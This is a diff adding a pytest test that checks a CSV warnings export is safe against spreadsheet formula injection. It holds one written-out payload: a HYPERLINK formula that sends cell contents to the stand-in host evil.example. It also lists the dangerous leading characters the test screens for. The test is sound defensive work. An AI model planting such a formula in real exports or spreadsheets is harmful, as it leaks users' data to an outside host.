@@ -2,14 +2,18 @@
 
 from __future__ import annotations
 
+import csv
 import io
+from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta
 from typing import Any
 
 import pandas as pd
 import pytest
 from fastapi.testclient import TestClient
+from sqlalchemy import select, update
 
+from risk.store import contract_table
 from risk.warnings import NOTICE_COLUMNS, list_warnings, notice_frame
 from serving.keys import KeyRole
 from tests.serving.conftest import ApiCounty
@@ -250,3 +254,36 @@ def test_export_all_statuses_and_unknown_regulator(
         "regulator",
         "missing",
     )
+
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
+
+
+@pytest.fixture
+def formula_named(api_county: ApiCounty) -> Iterator[str]:
+    """The first enterprise of 税务局's 通报 list renamed to a formula, for one test."""
+    uscc = str(notice_frame(api_county.engine, "税务局")["统一社会信用代码"].iloc[0])
+    enterprises = contract_table("enterprises")
+    with api_county.engine.begin() as conn:
+        name = conn.execute(
+            select(enterprises.c.name).where(enterprises.c.uscc == uscc)
+        ).scalar_one()
+        conn.execute(
+            update(enterprises).where(enterprises.c.uscc == uscc).values(name=FORMULA_NAME)
+        )
+    yield uscc
+    with api_county.engine.begin() as conn:
+        conn.execute(update(enterprises).where(enterprises.c.uscc == uscc).values(name=name))
+
+
+def test_export_csv_is_spreadsheet_safe(
+    client: TestClient, office: dict[str, str], formula_named: str
+) -> None:
+    response = client.get("/v1/warnings/export", params={"regulator": "税务局"}, headers=office)
+    assert response.status_code == 200, response.text
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert rows[0] == list(NOTICE_COLUMNS)
+    (row,) = [r for r in rows[1:] if r[1] == formula_named]
+    assert row[0] == "'" + FORMULA_NAME
+    dangerous = [c for r in rows for c in r if c.lstrip()[:1] in ("=", "+", "-", "@")]
+    assert dangerous == []
